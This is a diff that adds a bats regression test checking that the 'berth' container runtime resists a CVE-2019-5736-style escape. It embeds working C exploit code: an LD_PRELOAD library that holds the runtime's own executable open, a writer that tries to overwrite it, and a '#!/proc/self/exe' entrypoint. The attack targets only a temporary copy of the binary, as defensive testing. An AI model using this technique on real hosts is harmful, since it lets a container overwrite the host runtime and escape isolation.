@@ -1,0 +1,158 @@
+#!/usr/bin/env bats
+# Issue 10, item 1 (CVE-2019-5736 class): a program the container chooses
+# must never reach a writable berth binary. The image's entrypoint is a
+# script starting `#!/proc/self/exe`, so the kernel runs the executable of
+# the process that execs it (berth's) inside the container; an LD_PRELOAD
+# library from the image keeps that executable open (fd 200), then execs a
+# static writer that tries, for up to 10 s, to open /proc/self/fd/200 for
+# writing and to overwrite its first bytes, recording what it saw in
+# /attack-result. The attack targets a copy of berth in the test's tmpdir,
+# so on a vulnerable berth only the copy is damaged.
+
+load ../helpers
+
+setup() {
+  ID="$(unique_id exe)"
+  T="$BATS_TEST_TMPDIR"
+  B="$T/b"
+  COPY="$T/berth-copy"
+  cp "$BERTH" "$COPY"
+  COPY_SHA="$(sha256sum <"$COPY")"
+  make_bundle "$B" '.process.args = ["sleep", "1000"] | .root.readonly = false'
+  build_attack "$B/rootfs"
+}
+
+teardown() {
+  cleanup_containers # with the real berth: the copy may be the one damaged
+}
+
+# berth as the attacked copy (same state root as `berth`)
+copy_berth() {
+  _runtime "$COPY" --root "$BERTH_ROOT" "$@" </dev/null >"$T/out" 2>&1
+}
+
+# build_attack ROOTFS: berth's loader and libraries, the preload library,
+# the writer and the #!/proc/self/exe entrypoint, all in ROOTFS
+build_attack() {
+  local rootfs=$1 lib
+  for lib in $(ldd "$COPY" | grep -o '/[^ ]*'); do
+    mkdir -p "$rootfs$(dirname "$lib")"
+    cp -L "$lib" "$rootfs$lib"
+  done
+  cat >"$T/grab.c" <<'C'
+#define _GNU_SOURCE
+#include <fcntl.h>
+#include <stdlib.h>
+#include <unistd.h>
+/* runs inside berth's executable: keep it open across the exec (no
+ * O_CLOEXEC) so that it can be written once berth stopped running it */
+__attribute__((constructor)) static void grab(void)
+{
+  int fd = open("/proc/self/exe", O_PATH);
+  if (fd < 0 || dup2(fd, 200) < 0)
+    _exit(101);
+  unsetenv("LD_PRELOAD");
+  char *argv[] = {"/writer", NULL};
+  execve("/writer", argv, environ);
+  _exit(102);
+}
+C
+  cat >"$T/writer.c" <<'C'
+#define _GNU_SOURCE
+#include <errno.h>
+#include <fcntl.h>
+#include <stdio.h>
+#include <time.h>
+#include <unistd.h>
+static const char *name(int e)
+{
+  switch (e)
+    {
+    case ETXTBSY: return "ETXTBSY";
+    case EPERM: return "EPERM";
+    case EROFS: return "EROFS";
+    case EACCES: return "EACCES";
+    default: return "other";
+    }
+}
+int main(void)
+{
+  const char *what = "open";
+  int e = 0;
+  for (int i = 0; i < 500; i++) /* 10 s: ETXTBSY lasts while berth runs */
+    {
+      int fd = open("/proc/self/fd/200", O_WRONLY);
+      if (fd >= 0)
+        {
+          if (pwrite(fd, "EVIL", 4, 0) == 4)
+            {
+              what = "wrote";
+              e = 0;
+              break;
+            }
+          what = "write";
+        }
+      else
+        what = "open";
+      e = errno;
+      if (fd >= 0)
+        close(fd);
+      if (e != ETXTBSY)
+        break;
+      usleep(20000);
+    }
+  FILE *f = fopen("/attack-result", "w");
+  if (!f)
+    return 1;
+  fprintf(f, "%s %s %d\n", what, e ? name(e) : "-", e);
+  return fclose(f) != 0;
+}
+C
+  gcc -shared -fPIC -o "$rootfs/grab.so" "$T/grab.c"
+  gcc -static -O1 -o "$rootfs/writer" "$T/writer.c"
+  printf '#!/proc/self/exe\n' >"$rootfs/entry"
+  chmod 0755 "$rootfs/entry"
+}
+
+# the writer's verdict, once it is there (it gives up after 10 s)
+attack_result() {
+  local i
+  for i in $(seq 300); do
+    [[ -s "$B/rootfs/attack-result" ]] && break
+    sleep 0.05
+  done
+  cat "$B/rootfs/attack-result"
+}
+
+# the copy is untouched and the attacker was refused
+assert_copy_intact() {
+  local result=$1
+  echo "attacker: $result" >&2
+  [ "$(sha256sum <"$COPY")" = "$COPY_SHA" ]
+  [[ "$result" =~ ^(open|write)\ (ETXTBSY|EPERM|EROFS)\  ]]
+}
+
+@test "run -d: a #!/proc/self/exe entrypoint with LD_PRELOAD cannot overwrite the berth binary" {
+  bundle_edit "$B" '.process.args = ["/entry"] | .process.env += ["LD_PRELOAD=/grab.so"]'
+  copy_berth run -d --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
+  result="$(attack_result)"
+  berth delete --force "$ID"
+  assert_copy_intact "$result"
+}
+
+@test "exec -d: a #!/proc/self/exe program with LD_PRELOAD cannot overwrite the berth binary" {
+  copy_berth run -d --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
+  copy_berth exec -d --env LD_PRELOAD=/grab.so "$ID" /entry || { cat "$T/out" >&2; false; }
+  result="$(attack_result)"
+  berth delete --force "$ID"
+  assert_copy_intact "$result"
+}
+
+@test "create+start: the init runs from a sealed copy, not from the berth binary" {
+  bundle_edit "$B" '.process.args = ["/entry"] | .process.env += ["LD_PRELOAD=/grab.so"]'
+  copy_berth create --bundle "$B" "$ID" || { cat "$T/out" >&2; false; }
+  copy_berth start "$ID"
+  result="$(attack_result)"
+  berth delete --force "$ID"
+  assert_copy_intact "$result"
+}
